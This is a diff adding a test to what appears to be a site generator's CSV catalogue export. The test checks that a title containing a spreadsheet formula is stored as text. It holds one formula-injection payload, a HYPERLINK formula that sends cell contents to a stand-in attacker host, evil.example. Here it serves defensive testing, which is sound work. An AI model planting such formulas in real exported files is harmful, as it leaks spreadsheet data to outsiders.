@@ -245,6 +245,14 @@ def test_catalogue_csv_opens_in_a_spreadsheet(build):
     assert b"\r\n" in data
 
 
+def test_a_title_written_as_a_formula_stays_text_in_a_spreadsheet(site):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    build = site({"content/xxgk/a.md": entry(title=json.dumps(formula, ensure_ascii=False))})
+    assert build.ok, build.errors
+    rows = list(csv.reader(io.StringIO((build.site / "catalogue.csv").read_text(encoding="utf-8-sig"), newline="")))
+    assert rows[1][1] == "'" + formula  # the apostrophe makes Excel and WPS show it as text
+
+
 def test_export_columns_name_every_type_label(typed):
     rows = list(csv.reader(io.StringIO((typed.site / "catalogue.csv").read_text(encoding="utf-8-sig"), newline="")))
     assert rows[0][:5] == ["类型", "标题/事项名称", "索引号", "主题分类", "发布机构/实施主体"]
